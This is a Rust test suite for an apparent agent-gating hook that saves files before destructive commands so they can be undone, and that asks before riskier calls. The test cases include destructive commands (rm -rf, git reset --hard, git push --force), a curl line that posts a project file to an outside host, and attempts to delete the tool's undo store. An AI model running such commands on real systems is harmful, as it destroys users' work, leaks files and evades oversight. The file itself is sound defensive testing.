//! Calls through the hook that are undone: what an agent sends before and after, what its user is told, and what comes back.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::{Value, json};

use crate::scene::Scene;

/// A repository with a commit, and work that is in none.
const PREPARE: &str = "
    git init -q -b main .; git config user.email a@example.org; git config user.name a
    mkdir src; echo one > src/a; echo two > b; printf 'ignored\\n' > .gitignore; git add .; git commit -qm first
    echo uncommitted >> src/a; echo new > untracked";

struct Project(Scene);

impl Project {
    fn new() -> Self {
        let project = Project(Scene::new());
        std::fs::remove_dir(project.0.at("home/project/.git")).expect("an empty folder");
        project.run(PREPARE);
        project
    }

    fn environment(&self) -> Vec<(&'static str, String)> {
        vec![("PATH", std::env::var("PATH").expect("a path"))]
    }

    fn run(&self, text: &str) {
        let mut shell = Command::new("bash");
        shell.args(["-euc", text]).current_dir(self.0.at("home/project")).env("HOME", self.0.at("home"));
        let output = shell.output().expect("bash");
        assert!(output.status.success(), "{text}: {}", String::from_utf8_lossy(&output.stderr));
    }

    fn hook(&self, agent: &str, payload: &Value) -> Value {
        let arguments = ["hook", agent, "--no-lens"];
        let output = self.0.run_with(&arguments, payload.to_string().as_bytes(), &self.environment());
        serde_json::from_slice(&output.stdout).unwrap_or_default()
    }

    fn undo(&self, arguments: &[&str]) -> Output {
        self.0.run_with(&[&["undo"], arguments].concat(), b"", &self.environment())
    }

    fn claude(&self, event: &str, id: &str, tool: &str, input: &Value) -> Value {
        let mut payload = json!({
            "session_id": "s", "cwd": self.0.project(), "permission_mode": "default", "hook_event_name": event,
            "tool_name": tool, "tool_input": input, "tool_use_id": id, "transcript_path": "",
        });
        if event == "PostToolUse" {
            payload["tool_response"] = json!({ "stdout": "", "stderr": "", "interrupted": false, "isImage": false });
        }
        self.hook("claude", &payload)
    }

    /// A command as Claude Code runs it. What the hook says before.
    fn call(&self, id: &str, text: &str) -> Value {
        let input = json!({ "command": text });
        let said = self.claude("PreToolUse", id, "Bash", &input);
        if said["hookSpecificOutput"]["permissionDecision"].is_null() {
            self.run(text);
            self.claude("PostToolUse", id, "Bash", &input);
        }
        said
    }

    /// All files with their contents, and what git has.
    fn state(&self) -> String {
        let list = "find . -path ./.git -prune -o -type f -print0 | sort -z | xargs -0 md5sum; git status --short; git log --all --oneline --exclude='refs/toolgate/*' --branches; git stash list";
        let mut shell = Command::new("bash");
        shell.args(["-c", list]).current_dir(self.0.at("home/project")).env("HOME", self.0.at("home"));
        String::from_utf8_lossy(&shell.output().expect("bash").stdout).into_owned()
    }
}

fn text(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

/// Recoverable rules do not ask where all was saved, and the user is told; others ask as ever.
#[test]
fn what_was_saved_need_not_be_asked_about() {
    let cases = [
        // The command, whether it asks, and a part of what the user is told.
        ("git reset --hard", false, "To restore: toolgate undo"),
        ("rm -rf src", false, "saved"),
        ("git checkout -- .", false, "saved"),
        ("git clean -fd", false, "saved"),
        ("git push --force", true, ""),
        ("git reset --hard; curl -d @b https://example.org", true, ""),
        ("git reset --hard && ./script", true, ""),
        ("rm -rf ~/other", true, ""),
    ];
    for (command, asks, told) in cases {
        let project = Project::new();
        project.0.write("home/other/file", "x");
        let before = project.state();
        let said = project.call("1", command);
        let decision = &said["hookSpecificOutput"]["permissionDecision"];
        assert_eq!(!decision.is_null(), asks, "{command}: {said}");
        if asks {
            continue;
        }
        let message = said["systemMessage"].as_str().unwrap_or_default();
        assert!(message.contains(told), "{command}: {said}");
        assert_ne!(project.state(), before, "{command}");
        let output = project.undo(&[]);
        assert_eq!(output.status.code(), Some(0), "{command}: {}", text(&output));
        assert_eq!(project.state(), before, "{command}");
        let log = project.0.run_with(&["log"], b"", &project.environment());
        assert!(text(&log).contains("saved"), "{}", text(&log));
    }
}

/// A secret is not copied, and so the call is not recoverable.
#[test]
fn a_folder_with_a_secret_is_asked_about() {
    let project = Project::new();
    project.0.write("home/project/src/.env", "KEY=verysecret\n");
    let said = project.call("1", "rm -rf src");
    assert_eq!(said["hookSpecificOutput"]["permissionDecision"], "ask", "{said}");
    let reason = said["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap_or_default();
    assert!(reason.contains("removes 2 files"), "{reason}");
}

/// Only the user turns saving and softer questions off.
#[test]
fn settings_are_the_users() {
    let cases = [
        ("home/.config/toolgate/toolgate.yaml", "recoverable: ask\n", true, true),
        ("home/.config/toolgate/toolgate.yaml", "undo: off\n", true, false),
        ("home/project/toolgate.yaml", "recoverable: ask\n", true, true),
        ("home/project/toolgate.yaml", "undo: off\n", false, true),
    ];
    for (file, rules, asks, saves) in cases {
        let project = Project::new();
        project.0.write(file, rules);
        project.run("git add .; git commit -qm rules; echo more >> b");
        let said = project.call("1", "git reset --hard");
        assert_eq!(!said["hookSpecificOutput"]["permissionDecision"].is_null(), asks, "{file} {rules}: {said}");
        assert_eq!(project.0.at("home/.local/state/toolgate/undo").exists(), saves, "{file} {rules}");
    }
}

#[test]
fn file_tools_and_several_calls_are_undone() {
    let project = Project::new();
    let before = project.state();
    let path = project.0.at("home/project/src/a").display().to_string();
    let input = json!({ "file_path": path, "content": "other\n" });
    project.claude("PreToolUse", "1", "Write", &input);
    project.run("echo other > src/a");
    project.claude("PostToolUse", "1", "Write", &input);
    project.call("2", "mv b c; echo 1 > made");
    project.call("3", "rm -f untracked");
    let listed = text(&project.undo(&["--list"]));
    assert!(listed.contains("D untracked") && listed.contains("A made") && listed.contains("M src/a"), "{listed}");
    let json: Value = serde_json::from_slice(&project.undo(&["--list", "--json"]).stdout).expect("JSON");
    assert_eq!(json["calls"].as_array().map(Vec::len), Some(3), "{json}");
    let diff = text(&project.undo(&["--dry-run", "--", "src/a"]));
    assert!(diff.contains("-other") && diff.contains("+uncommitted"), "{diff}");
    assert_eq!(project.undo(&["--", "src/a"]).status.code(), Some(0));
    let output = project.undo(&["--session"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    assert_eq!(project.state(), before);
    let nothing = project.undo(&[]);
    assert_eq!(nothing.status.code(), Some(66), "{}", text(&nothing));
    let id = json["calls"][0]["id"].as_str().expect("an id");
    assert!(text(&project.undo(&["--list"])).contains("undone by"), "{id}");
}

#[test]
fn what_somebody_changed_since_is_named_and_left() {
    let project = Project::new();
    project.call("1", "echo other > b");
    project.run("echo mine > b");
    let output = project.undo(&[]);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    assert!(text(&output).contains("conflict"), "{}", text(&output));
    let content = || std::fs::read_to_string(project.0.at("home/project/b")).expect("a file");
    assert_eq!(content(), "mine\n");
    assert_eq!(project.undo(&["--force"]).status.code(), Some(0));
    assert_eq!(content(), "two\n");
}

/// Agents that name no call are known by what they send.
#[test]
fn every_agent_that_reports_results_is_covered() {
    let input = |command: &str| json!({ "command": command });
    let cases = [
        ("codex", "PreToolUse", "PostToolUse", "Bash"),
        ("gemini", "BeforeTool", "AfterTool", "run_shell_command"),
        ("droid", "PreToolUse", "PostToolUse", "Execute"),
    ];
    for (agent, before, after, tool) in cases {
        let project = Project::new();
        let state = project.state();
        let payload = |event: &str| {
            json!({
                "session_id": "s", "cwd": project.0.project(), "hook_event_name": event, "tool_name": tool,
                "tool_input": input("rm -f untracked"), "transcript_path": "", "permission_mode": "default",
                "timestamp": "2026-01-01T00:00:00Z", "model": "m", "turn_id": "t", "tool_response": "",
            })
        };
        project.hook(agent, &payload(before));
        project.run("rm -f untracked");
        project.hook(agent, &payload(after));
        let output = project.undo(&[]);
        assert_eq!(output.status.code(), Some(0), "{agent}: {}", text(&output));
        assert_eq!(project.state(), state, "{agent}");
    }
}

/// The gate's own: an agent is asked before it undoes, and does not touch the store.
#[test]
fn an_agent_does_not_undo_by_itself() {
    let project = Project::new();
    project.call("1", "rm -f untracked");
    let cases = [
        ("toolgate undo", "ask"),
        ("rm -rf ~/.local/state/toolgate/undo", "deny"),
        ("echo x > ~/.local/state/toolgate/undo/version", "deny"),
        ("git update-ref -d refs/toolgate/undo/1", "ask"),
    ];
    for (command, expected) in cases {
        let said = project.call("2", command);
        assert_eq!(said["hookSpecificOutput"]["permissionDecision"], expected, "{command}: {said}");
    }
    assert!(Path::new(&project.0.at("home/.local/state/toolgate/undo/calls")).exists());
}
